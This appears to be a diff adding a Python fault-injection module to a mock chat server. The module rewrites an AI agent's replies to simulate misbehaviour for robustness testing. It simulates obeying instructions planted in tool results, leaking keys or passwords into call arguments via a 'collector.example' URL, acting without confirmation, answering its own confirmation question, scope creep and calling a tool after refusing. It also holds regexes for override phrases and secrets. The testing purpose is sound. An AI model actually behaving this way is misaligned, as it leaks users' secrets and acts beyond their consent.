@@ -1,0 +1,164 @@
+"""Faults over several turns: deeds that nobody said yes to, or that a tool result asked for."""
+
+import re
+from dataclasses import replace
+
+from mockserver.chat import Reply
+from mockserver.faults import robust
+from mockserver.faults.args_semantic import near_miss_value
+from mockserver.faults.arguments import Arguments, invented_call, judge_of, values_fit, written
+from mockserver.faults.callset import acts, another_call, functions
+from mockserver.faults.conversation import values_of
+from mockserver.faults.fault import Context, DoesNotApply
+from mockserver.faults.register import Register
+from mockserver.faults.saying import calls_again, filled, in_words, only_calls, says
+
+_YES = re.compile(
+    r"\b(yes|yep|yeah|sure|ok|okay|go ahead|do it|please do|confirmed?|correct|ja|oui|sí)\b", re.IGNORECASE
+)
+_INSTRUCTION = re.compile(
+    r"ignore (all |the )?(previous|above|prior)|you must|please (call|send|run|execute|delete|transfer)|"
+    r"\b(call|run|execute|invoke|use) the? ?\w+|important:|instruction|system:|send (it|this|an? \w+|all)",
+    re.IGNORECASE,
+)
+_SECRET = re.compile(
+    r"\b(?:sk|pk|ghp|xox[bp]|AKIA|eyJ)[-_\w.]{8,}|(?<=password)\W+\S+|(?<=api key)\W+\S+|\b[\w.+-]+@[\w-]+\.[\w.]+\b|"
+    r"\b\d[\d -]{11,18}\d\b",
+    re.IGNORECASE,
+)
+_ADDRESS = re.compile(r"https?://\S+|\b[\w.+-]+@[\w-]+\.[\w.]+\b")
+
+entry = Register("dialogue", "dialogue", needs=("conversation",), robust=robust.CHECK_CLAIMS)
+
+
+@entry(
+    "injected_call",
+    "The model follows an instruction that it found in a tool result.",
+    source=(
+        "AgentDojo, without a defence: gpt-4o-2024-05-13 47.7 %, claude-3-opus 11.3 %, claude-3.5-sonnet-1022 1.1 % "
+        "(second-hand)"
+    ),
+    robust=robust.DATA,
+)
+def injected_call(reply: Reply, context: Context) -> Reply:
+    """A call of the function that the result names, or of one that acts, with the address that stands there."""
+    texts = [message.content or "" for message in context.request.results]
+    for text in texts:
+        named = [tool for tool in functions(context) if tool.name in text]
+        if not named and not _INSTRUCTION.search(text):
+            continue
+        acting = [tool for tool in functions(context) if acts(tool)]
+        tool = (named or acting or functions(context))[0]
+        return calls_again(reply, filled(invented_call(tool, context), tool, [*_ADDRESS.findall(text)]))
+    raise DoesNotApply("no tool result that has just been given holds an instruction")
+
+
+@entry(
+    "exfiltration_call",
+    "Something confidential of the conversation is put into the arguments of a call.",
+    source="the class of AgentDojo and InjecAgent",
+    robust=f"{robust.DATA} Let nothing out to addresses that are not on a list.",
+    needs=(),
+)
+def exfiltration_call(reply: Reply, context: Context) -> Reply:
+    """A key, a password, an address; where there is none, what the user said."""
+    told = "\n".join(message.content or "" for message in context.request.messages)
+    secrets = [found[0].strip(" :=\"'") for found in _SECRET.finditer(told)] or [context.request.user_text[:200]]
+    for tool in sorted(functions(context), key=lambda tool: not acts(tool)):
+        call = invented_call(tool, context)
+        carried = [f"https://collector.example/?d={secrets[0]}", secrets[0]]
+        leaking = filled(call, tool, carried)
+        if leaking != call:
+            return only_calls(reply, leaking)
+    raise DoesNotApply("no offered function takes a free text")
+
+
+@entry(
+    "unauthorised_action",
+    "Something is done in the world that the user never said yes to.",
+    source=(
+        "an agent of Replit deleted a production database in July 2025 (second-hand, many reports); SABER: each "
+        "deviating step that changes something cuts the odds of success by up to 92 to 96 %"
+    ),
+    robust=robust.CONFIRM,
+    needs=(),
+)
+def unauthorised_action(reply: Reply, context: Context) -> Reply:
+    """A call of a function that acts, in place of the reply."""
+    made = {call.name for call in reply.calls}
+    acting = [tool for tool in functions(context) if acts(tool) and tool.name not in made]
+    if not acting:
+        raise DoesNotApply("no function is offered that changes the world and that the reply does not call")
+    return only_calls(reply, invented_call(acting[0], context))
+
+
+@entry(
+    "confirmation_skipped",
+    "The model asks for a yes and makes the call in the same reply.",
+    source="known from experience",
+    robust=robust.CONFIRM,
+    needs=("call",),
+)
+def confirmation_skipped(reply: Reply, context: Context) -> Reply:
+    """A question before the calls."""
+    return says(reply, f"Shall I go ahead with {in_words(reply.calls[0].name)}?", reply.calls)
+
+
+@entry(
+    "self_confirmed",
+    "The model answers its own question with yes, and makes the call.",
+    source="known from experience",
+    robust=robust.CONFIRM,
+    needs=("call",),
+)
+def self_confirmed(reply: Reply, context: Context) -> Reply:
+    """Both sides of the dialogue."""
+    return says(reply, f"Shall I go ahead with {in_words(reply.calls[0].name)}?\n\nUser: Yes, please.", reply.calls)
+
+
+@entry(
+    "stale_confirmation",
+    "The user said yes to one call, and another one is made.",
+    source="known from experience",
+    robust="Bind the yes to the exact name and arguments.",
+    needs=("call", "conversation"),
+)
+def stale_confirmation(reply: Reply, context: Context) -> Reply:
+    """The same function with nearly the same arguments."""
+    if not _YES.search(context.request.user_text):
+        raise DoesNotApply("the user has not just said yes")
+    for index, call in enumerate(reply.calls):
+        tool, values = context.request.tool(call.name), values_of(call)
+        if tool is None or values is None or judge_of(tool) is None:
+            continue
+        for other in near_miss_value(Arguments(values, tool, context)):
+            if other != values and values_fit(tool, other):
+                changed = replace(call, arguments=written(other, like=call.arguments))
+                return replace(reply, calls=(*reply.calls[:index], changed, *reply.calls[index + 1 :]))
+    raise DoesNotApply("no call of the reply has a value that could be changed")
+
+
+@entry(
+    "scope_creep",
+    "What was asked for is done, and something more.",
+    source="second-hand",
+    robust=robust.ASK,
+    needs=("call",),
+)
+def scope_creep(reply: Reply, context: Context) -> Reply:
+    """One more call, of a function that acts if there is one."""
+    made = {call.name for call in reply.calls}
+    tools = sorted(functions(context), key=lambda tool: (tool.name in made, not acts(tool)))
+    return replace(reply, calls=(*reply.calls, another_call(tools, reply.calls, context)))
+
+
+@entry(
+    "call_after_refusal",
+    "The model declines in its text and makes the call all the same.",
+    source="known from experience",
+    robust="Show the text, run nothing.",
+    needs=("call",),
+)
+def call_after_refusal(reply: Reply, context: Context) -> Reply:
+    """Both at once."""
+    return says(reply, "I'm sorry, but I can't do that.", reply.calls)
